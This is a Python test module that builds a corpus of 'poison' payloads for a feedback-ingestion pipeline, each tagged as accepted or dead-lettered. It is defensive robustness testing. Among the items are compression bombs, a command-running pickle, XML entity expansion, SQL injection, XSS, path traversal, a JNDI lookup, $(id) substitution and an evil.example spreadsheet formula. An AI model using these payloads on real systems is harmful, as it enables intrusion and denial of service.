"""Payloads that broke some program once: each must end in one place, in bounded time, and harm no neighbour.

Every payload says what must become of it, by reading its contract and not by asking the product. Two fates:
`ACCEPTED`, a row of `feedback` whose bytes are in `raw`; `DEAD`, a dead letter that holds the exact bytes.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any, Final

from tests.pipelines.events import event

ACCEPTED: Final = "accepted"
DEAD: Final = "dead"

MIB: Final = 1 << 20


Parts = tuple[str, str, Callable[[], bytes]]
"""Name, fate and how to make it."""


@dataclass(frozen=True)
class Poison:
    """One payload. `make` builds it when asked: some are large. `attributes` travel beside it on a queue."""

    name: str
    fate: str
    make: Callable[[], bytes]
    attributes: Mapping[str, str] = field(default_factory=dict)

    @property
    def payload(self) -> bytes:
        """The bytes, the same ones each time."""
        return self.make()


def _event(name: str, **fields: Any) -> dict[str, Any]:
    return event(0, **{"id": f"poison {name}", **fields})


def _json(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")


def _written(name: str, key: str, literal: bytes) -> bytes:
    """An event whose field `key` (dotted: inside an object) is written as these very bytes."""
    mark = "\u2063literal\u2063"
    outer, _, inner = key.partition(".")
    value: Any = {**event(0)["rating"], inner: mark} if outer == "rating" else {inner: mark} if inner else mark
    return _json(_event(name, **{outer: value})).replace(f'"{mark}"'.encode(), literal)


def _nested(opening: bytes, closing: bytes, levels: int) -> bytes:
    return opening * levels + b"1" + closing * levels


def _filled(unit: str, size_bytes: int) -> str:
    """The unit again and again: a text of about `size_bytes` as JSON writes it."""
    return unit * (size_bytes // len(_json(unit)[1:-1]))


def _zip_bomb() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("a", (1980, 1, 1, 0, 0, 0)), bytes(10 * MIB), zipfile.ZIP_DEFLATED)
    return packed.getvalue()


def _keys(count: int) -> bytes:
    return b"{" + b",".join(b'"k%d":1' % number for number in range(count)) + b"}"


def _bytes() -> Iterator[Parts]:
    """Bytes that are no message at all."""
    good = _json(_event("bytes"))
    yield "no byte", DEAD, lambda: b""
    yield "one space", DEAD, lambda: b" "
    yield "white space, 1 MiB", DEAD, lambda: b" \t\r\n" * (MIB // 4)
    yield "byte order mark alone", DEAD, lambda: b"\xef\xbb\xbf"
    yield "two byte order marks", DEAD, lambda: b"\xef\xbb\xbf\xef\xbb\xbf" + good
    yield "byte order mark", ACCEPTED, lambda: b"\xef\xbb\xbf" + _json(_event("bom"))
    yield "UTF-16 with its mark", DEAD, lambda: good.decode().encode("utf-16")
    yield "UTF-32", DEAD, lambda: good.decode().encode("utf-32-le")
    yield "UTF-7", DEAD, lambda: b"{+ACI-id+ACI-:1}"
    yield "one NUL", DEAD, lambda: b"\0"
    yield "NULs, 1 MiB", DEAD, lambda: bytes(MIB)
    yield "NUL after the object", DEAD, lambda: good + b"\0"
    yield "cut in half", DEAD, lambda: good[: len(good) // 2]
    yield "cut inside a character", DEAD, lambda: _json(_event("cut", text="é"))[:-1].split(b"\xa9")[0]
    yield "two objects", DEAD, lambda: good + b"\n" + good
    yield "object and comma", DEAD, lambda: good + b","
    yield "single quotes", DEAD, lambda: repr(_event("quotes")).encode()
    yield "comment", DEAD, lambda: b"/* */" + good
    yield "gzip of a good event", DEAD, lambda: gzip.compress(good, mtime=0)
    yield "gzip bomb of 20 MiB", DEAD, lambda: gzip.compress(bytes(20 * MIB), 6, mtime=0)
    yield "gzip bomb in a gzip bomb", DEAD, lambda: gzip.compress(gzip.compress(bytes(10 * MIB), mtime=0), mtime=0)
    yield "zip bomb", DEAD, _zip_bomb
    yield "zstd frame", DEAD, lambda: bytes.fromhex("28b52ffd0458") + bytes(64)
    yield "Parquet file", DEAD, lambda: b"PAR1" + bytes(64) + b"PAR1"
    yield "Avro file", DEAD, lambda: b"Obj\x01" + bytes(64)
    yield "pickle that would run a command", DEAD, lambda: b"cos\nsystem\n(S'exit 1'\ntR."
    yield "HTML page", DEAD, lambda: b"<html><body>502 Bad Gateway</body></html>"
    yield (
        "XML with nested entities",
        DEAD,
        lambda: b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
    )
    yield "10 MB of text", DEAD, lambda: _json(_event("10 MB", text="x" * 10_000_000))
    yield "10 MB of noise", DEAD, lambda: bytes(range(256)) * (10_000_000 // 256)
    yield "one byte over 1 MiB", DEAD, lambda: _exactly(MIB + 1, "over")
    yield "1 MiB to the byte", ACCEPTED, lambda: _exactly(MIB, "fits")


def _exactly(size_bytes: int, name: str) -> bytes:
    return _json(_event(name, text="x" * (size_bytes - len(_json(_event(name, text=""))))))


def _invalid_utf8() -> Iterator[Parts]:
    """Bytes that are not UTF-8, in several places."""
    broken = {
        "lone continuation": b"\x80",
        "overlong slash": b"\xc0\xaf",
        "byte FF": b"\xff",
        "surrogate in UTF-8": b"\xed\xa0\x80",
        "beyond Unicode": b"\xf4\x90\x80\x80",
        "character cut short": b"\xe2\x82",
        "Latin-1 letter": b"caf\xe9",
    }
    for name, part in broken.items():
        yield f"text with {name}", DEAD, lambda part=part: _written("utf8", "text", b'"a' + part + b'b"')
    yield "key with byte FF", DEAD, lambda: _json(_event("k"))[:-1] + b', "\xff": 1}'
    yield "byte FF after the object", DEAD, lambda: _json(_event("after")) + b"\xff"
    yield "byte FF at the end of 1 MB", DEAD, lambda: _written("end", "text", b'"' + b"a" * 1_000_000 + b'\xff"')


def _json_traps() -> Iterator[Parts]:
    """JSON that parsers disagree about."""
    for kind, value in {
        "array": b"[1]",
        "string": b'"a"',
        "number": b"1",
        "true": b"true",
        "null": b"null",
    }.items():
        yield f"{kind} at the top", DEAD, lambda value=value: value
    yield "empty object", DEAD, lambda: b"{}"
    for literal in (
        b"NaN",
        b"Infinity",
        b"-Infinity",
        b"1e999",
        b"-1e999",
        b"9" * 400,
        b"0x1F",
        b"01",
        b".5",
        b"+1",
    ):
        name = literal.decode()[:12]
        yield f"rating {name}", DEAD, lambda literal=literal: _written("rating", "rating.value", literal)
    yield "rating -0.0", DEAD, lambda: _written("zero", "rating.value", b"-0.0")
    yield "rating 1e-999", DEAD, lambda: _written("tiny", "rating.value", b"1e-999")
    yield "NaN in a field nobody knows", DEAD, lambda: _written("nan", "unknown", b"NaN")
    yield "1e999 in a field nobody knows", DEAD, lambda: _written("huge", "unknown", b"1e999")
    yield "number of 5,000 digits as rating", DEAD, lambda: _written("5000", "rating.value", b"9" * 5000)
    yield "number of 5,000 digits as id", DEAD, lambda: _written("5000", "id", b"9" * 5000)
    yield "number of 5,000 digits unknown", DEAD, lambda: _written("5000", "unknown", b"9" * 5000)
    yield "fraction of 5,000 digits unknown", ACCEPTED, lambda: _written("0.3", "unknown", b"0." + b"3" * 5000)
    yield "exponent of 5,000 digits", DEAD, lambda: _written("e", "unknown", b"1e" + b"9" * 5000)
    yield "2^63 as id", ACCEPTED, lambda: _written("2^63", "id", str(2**63).encode())
    yield "2^64 as id", DEAD, lambda: _written("2^64", "id", str(2**64).encode())
    yield "2^64 in a field nobody knows", ACCEPTED, lambda: _written("2^64", "unknown", str(2**64).encode())
    yield "-2^63 - 1 as id", DEAD, lambda: _written("low", "id", str(-(2**63) - 1).encode())
    yield "2^63 as segment", ACCEPTED, lambda: _written("segment", "segment.size", str(2**63).encode())
    for name, part in {"arrays": (b"[", b"]"), "objects": (b'{"a":', b"}"), "mixed": (b'[{"a":', b"}]")}.items():
        yield f"100,000 levels of {name}", DEAD, lambda part=part: _written("deep", "x", _nested(*part, 100_000))
    yield "1,000 levels of arrays", DEAD, lambda: _written("1000", "x", _nested(b"[", b"]", 1_000))
    yield "200 levels of objects", DEAD, lambda: _written("200", "x", _nested(b'{"a":', b"}", 200))
    yield "120 levels of arrays", ACCEPTED, lambda: _written("120", "x", _nested(b"[", b"]", 120))
    yield (
        "120 levels of objects with an address",
        ACCEPTED,
        lambda: _written("120 mail", "x", b'{"a":' * 120 + b'"a@example.com"' + b"}" * 120),
    )
    yield "100,000 opening brackets", DEAD, lambda: b"[" * 100_000
    yield "100,000 opening braces", DEAD, lambda: b'{"a":' * 100_000
    yield "500,000 keys", DEAD, lambda: _written("keys", "x", _keys(500_000))
    yield "90,000 keys", ACCEPTED, lambda: _written("90k keys", "x", _keys(90_000))
    yield "80,000 segments", ACCEPTED, lambda: _written("80k segments", "segment", _keys(80_000))
    yield (
        "500,000 empty lists",
        ACCEPTED,
        lambda: _written("lists", "x", b"[" + b",".join([b"[]"] * 340_000) + b"]"),
    )
    yield "key of 900,000 letters", ACCEPTED, lambda: _json({**_event("long key"), "k" * 900_000: 1})
    yield "empty key", ACCEPTED, lambda: _json({**_event("empty key"), "": 1})
    yield "duplicate keys: the last id counts", ACCEPTED, lambda: b'{"id":"first",' + _json(_event("last"))[1:]
    yield "duplicate keys: the last text is a number", DEAD, lambda: _json(_event("dup"))[:-1] + b', "text": 1}'
    yield (
        "keys that Python objects have",
        ACCEPTED,
        lambda: _json({**_event("dunder"), "__class__": {"__init__": 1}, "__proto__": {"a": 1}, "constructor": 1}),
    )


def _text_traps(size: int) -> Iterator[Parts]:
    """Strings that are valid and unkind; the long ones have about `size` bytes."""
    yield "lone high surrogate, escaped", DEAD, lambda: _written("high", "text", rb'"a\ud800b"')
    yield "lone low surrogate, escaped", DEAD, lambda: _written("low", "text", rb'"\udc00"')
    yield "surrogates the wrong way round", DEAD, lambda: _written("wrong", "text", rb'"\udc00\ud800"')
    yield "lone surrogate as key", DEAD, lambda: _json(_event("key"))[:-1] + rb', "\ud800": 1}'
    yield "surrogate pair, escaped", ACCEPTED, lambda: _written("pair", "text", rb'"slow \ud83d\ude00"')
    texts = {
        "NUL": "slow\0 and broken",
        "NULs only": "\0\0\0\0",
        "every control character": "".join(map(chr, range(0x20))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
        "bidirectional override": "invoice \u202egpj.exe\u202c slow",
        "unbalanced isolates": _filled("\u2066", size) + "slow",
        "zero width joiners": _filled("\u200d", size) + "slow",
        "no-characters": "slow \ufdd0 \ufffe \uffff \U0010ffff",
        "byte order marks inside": "\ufeffslow\ufeff",
        "private use": "\ue000\uf8ff slow",
        "combining characters": "e" + _filled("\u0301", size),
        "stacked letters": _filled("Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f", size),
        "families of emoji": _filled("\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d", size),
        "emoji": _filled("\U0001f621", size),
        "flags cut in half": _filled("\U0001f1e9", size),
        "one long word": _filled("a", size),
        "one long word in capitals": _filled("A", size),
        "words of one letter": _filled("a ", size),
        "exclamation marks": _filled("!", size),
        "full stops and spaces": _filled(". ", size),
        "line ends": "slow" + _filled("\n", size),
        "line ends of every kind": "slow\r\n\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029slow",
        "Greek question marks and dotless i": "İıſK\u037e slow",
        "German sharp s in capitals": _filled("ẞß", size),
        "Hangul filler": _filled("\u3164", size),
        "right to left": "\u0627\u0644\u062a\u0637\u0628\u064a\u0642 \u0628\u0637\u064a\u0621 " * 1000,
        "Thai without a space": _filled("\u0e41\u0e2d\u0e1b\u0e0a\u0e49\u0e32", size),
        "character that crashed telephones": "\u0c1c\u0c4d\u0c1e\u200c\u0c3e slow",
        "but, without end": _filled("but it is slow ", size),
    }  # fmt: skip
    for name, text in texts.items():
        fate = DEAD if name == "NULs only" else ACCEPTED
        rating = {"rating": None} if fate == DEAD else {}
        yield (
            f"text: {name}",
            fate,
            lambda name=name, text=text, rating=rating: _json(_event(f"text {name}", text=text, **rating)),
        )


def _redaction_bait(size: int) -> Iterator[Parts]:
    """Texts of about `size` bytes that make a careless pattern try every way."""
    baits = {
        "digits": _filled("1", size),
        "digits and spaces": _filled("1 ", size),
        "digits and hyphens": _filled("4111-", size),
        "digits and dots": _filled("1.", size),
        "leading noughts": "00" + _filled("0 ", size),
        "card numbers": _filled("4111 1111 1111 1111 ", size),
        "nearly card numbers": _filled("4111 1111 1111 1112 ", size),
        "phone numbers": _filled("+49 30 901820 ", size),
        "nearly phone numbers": _filled("(((((((0", size),
        "call, without end": _filled("call me at ", size) + "7",
        "brackets": _filled("(", size),
        "brackets and digits": _filled("(1)", size),
        "plus signs": _filled("+", size),
        "at signs": _filled("@", size),
        "a@ a@": _filled("a@", size),
        "a@a.": _filled("a@a.", size),
        "addresses": _filled("a@example.com ", size),
        "addresses without a gap": _filled("a@example.com", size),
        "local part without end": _filled("a.", size) + "@example.com",
        "domain without end": "a@" + _filled("a.", size),
        "domain of hyphens": "a@a" + _filled("-", size),
        "colons": _filled(":", size),
        "nearly IPv6": _filled("a:", size),
        "IPv6": _filled("2001:db8::1 ", size),
        "IPv4": _filled("192.168.200.1 ", size),
        "nearly IPv4": _filled("999.999.999.999", size),
        "nearly IBAN": "DE44" + _filled("1 ", size),
        "IBANs": _filled("DE44500105175407324931 ", size),
        "IBAN letters": _filled("GB33BUKB", size),
        "URL with password": _filled("http://a:b@c/", size),
        "URL with colons": "http://" + _filled("a:", size),
        "secret parameters": _filled("?token=a&key=b", size),
        "parameter names without end": "?" + _filled("a_", size) + "token=1",
        "equals signs": _filled("=", size),
        "placeholders": _filled("[EMAIL][PHONE]", size),
        "an address that a placeholder uncovers": "1" * 20 + _filled("a@example.com", size),
        "numbers uncovered one by one": _filled("+4930901820", size),
    }
    for name, text in baits.items():
        yield f"bait: {name}", ACCEPTED, lambda name=name, text=text: _json(_event(f"bait {name}", text=text))
    yield (
        "bait in a field nobody knows",
        ACCEPTED,
        lambda: _json(
            _event(
                "extra", unknown=[_filled("a@a.", size // 3), {_filled("1 ", size // 3): _filled("(", size // 3)}]
            )
        ),
    )
    yield (
        "bait in 1,000 segments",
        ACCEPTED,
        lambda: _json(
            _event("segments", segment={str(number): f"+4930 90182{number:04}" for number in range(1_000)})
        ),
    )
    yield "bait in url and thread", ACCEPTED, lambda: _json(_event("url", url="a@" * 2_000, thread=":" * 4_000))


def _injections(size: int) -> Iterator[Parts]:
    """Texts that mean something to a program further down."""
    texts = {
        "SQL": "'; DROP TABLE feedback; -- \" $$ ' OR 1=1",
        "SQL variable": "getvariable('files') {placeholder} %s ? $1 :name",
        "spreadsheet formula": '=HYPERLINK("http://evil.example","click")',
        "terminal escapes": "\x1b[2J\x1b]0;owned\x07\x1b[31mslow\x9b31m",
        "rich markup": "[bold red]slow[/] [link=file:///etc/passwd]x[/link]",
        "HTML and script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "path": "../../../../etc/passwd\0.parquet",
        "format string": "%s%s%s%n {0.__class__} ${jndi:ldap://x/a}",
        "CSV": '"a","b"\r\n"c;d"',
        "log line": "slow\n2026-01-01T00:00:00Z CRITICAL all is lost",
        "HTML bomb": _filled("<div>", size),
        "entities": _filled("&amp;", size),
    }
    for name, text in texts.items():
        yield (
            f"injection: {name}",
            ACCEPTED,
            lambda name=name, text=text: _json(_event(f"inject {name}", text=text)),
        )
    for column in ("product", "version", "account", "thread", "url"):
        yield (
            f"injection in {column}",
            ACCEPTED,
            lambda column=column: _json(
                _event(f"inject {column}", **{column: "../'\";=a/%2F?*[day=2024-01-01]{}\\$(id)"})
            ),
        )
    yield "path as source", ACCEPTED, lambda: _json(_event("source", source="../../etc"))


def _dates() -> Iterator[Parts]:
    """Instants at and beyond the edges of the calendar."""
    dates = {
        "0001-01-01T00:00:00Z": ACCEPTED,
        "0001-01-01T00:00:00+14:00": DEAD,
        "9999-12-31T23:59:59.999999Z": ACCEPTED,
        "9999-12-31T23:59:59-14:00": DEAD,
        "0000-01-01T00:00:00Z": DEAD,
        "-0001-01-01T00:00:00Z": DEAD,
        "300000-01-01T00:00:00Z": DEAD,
        "1970-01-01T00:00:00Z": ACCEPTED,
        "1989-12-31T23:59:59Z": ACCEPTED,
        "2100-01-01T00:00:00Z": ACCEPTED,
        "2016-12-31T23:59:60Z": DEAD,
        "2024-02-30T00:00:00Z": DEAD,
        "2023-02-29T00:00:00Z": DEAD,
        "2024-02-29T00:00:00Z": ACCEPTED,
        "2024-13-01T00:00:00Z": DEAD,
        "2024-01-01T25:00:00Z": DEAD,
        "2024-01-01T00:00:00+25:00": DEAD,
        "2024-01-01T00:00:00": DEAD,
        "2024-01-01": DEAD,
        "2024-W01-1T00:00:00Z": DEAD,
        "2024-01-01T00:00:00.123456789123456789Z": ACCEPTED,
        "2024-01-01T00:00:00." + "1" * 100_000 + "Z": ACCEPTED,
        "٢٠٢٤-٠١-٠١T٠٠:٠٠:٠٠Z": DEAD,
        "now": DEAD,
        "": DEAD,
        "2024-01-01T00:00:00Z\0": DEAD,
    }
    for written, fate in dates.items():
        yield (
            f"date {written[:40]!r}",
            fate,
            lambda written=written: _json(_event(f"date {written[:40]}", occurred_at=written)),
        )
    yield "revised in year 1", ACCEPTED, lambda: _json(_event("revised", revised_at="0001-01-01T00:00:00Z"))


_TYPES: Final[Mapping[str, Any]] = {
    "null": None,
    "true": True,
    "number": 7,
    "fraction": 2.5,
    "text": "en",
    "array": [1, "a"],
    "object": {"a": 1},
}
"""One value of every JSON type. The text is one that most fields may hold."""

_LABEL: Final = frozenset({"null", "number", "text"})
_TAKES: Final[Mapping[str, frozenset[str]]] = {
    "schema": frozenset(),
    "id": frozenset({"number", "text"}),
    "occurred_at": frozenset(),
    "revised_at": frozenset({"null"}),
    "channel": frozenset({"null"}),
    "language": frozenset({"null", "text"}),
    "title": frozenset({"null", "text"}),
    "text": frozenset({"null", "text"}),
    "rating": frozenset({"null", "true", "number", "fraction", "text", "array", "object"}),
    "rating.value": frozenset({"null", "fraction"}),
    "rating.scale": frozenset(),
    "rating.survey_kind": frozenset({"null"}),
    "author": frozenset({"null", "true", "number", "fraction", "text", "array", "object"}),
    "author.id": _LABEL,
    "author.kind": frozenset({"null"}),
    "segment": frozenset({"null", "object"}),
    "segment.x": frozenset({"null", "true", "number", "fraction", "text"}),
    "deleted": frozenset({"null", "true"}),
    **dict.fromkeys(
        ("source", "account", "revision", "supersedes", "product", "version", "thread", "url"), _LABEL
    ),
    "unknown": frozenset(_TYPES),
}
"""Which types of `_TYPES` each field of feedback_event/1 takes, the other fields being those of a good event."""


def _types() -> Iterator[Parts]:
    """Every JSON type in every field of the native contract."""
    for name, takes in _TAKES.items():
        for kind, value in _TYPES.items():
            literal = _json(value)
            fate = ACCEPTED if kind in takes else DEAD
            yield (
                f"{kind} as {name}",
                fate,
                lambda name=name, kind=kind, literal=literal: _written(f"{kind} as {name}", name, literal),
            )


_BOMB: Final = base64.b64encode(gzip.compress(bytes(500_000), mtime=0)).decode()


def _attributes() -> Iterator[Poison]:
    """Attributes that say something about the body which is not so; nobody may act on them."""
    for name, attributes in {
        "gzip said of plain bytes": {"Content-Encoding": "gzip"},
        "gzip bomb in an attribute": {"bomb": _BOMB[:1024]},
        "attributes that name fields": {"id": "other", "source": "../x", "batch_id": "1", "schema": "none"},
        "attribute with control characters": {"a\x1b[2J": "\x07\u202e'; --"},
        "one hundred attributes": {f"key{number}": "v" * 1000 for number in range(100)},
    }.items():
        yield Poison(
            f"attributes: {name}", ACCEPTED, lambda name=name: _json(_event(f"attributes {name}")), attributes
        )


def corpus(size_bytes: int = 900_000) -> list[Poison]:
    """All payloads, in a fixed order, with names and bytes of their own; long texts have about `size_bytes`."""
    fixed = (_bytes, _invalid_utf8, _json_traps, _dates, _types)
    sized = (_text_traps, _redaction_bait, _injections)
    parts = [part for group in fixed for part in group()] + [part for group in sized for part in group(size_bytes)]
    return [Poison(*part) for part in parts] + list(_attributes())
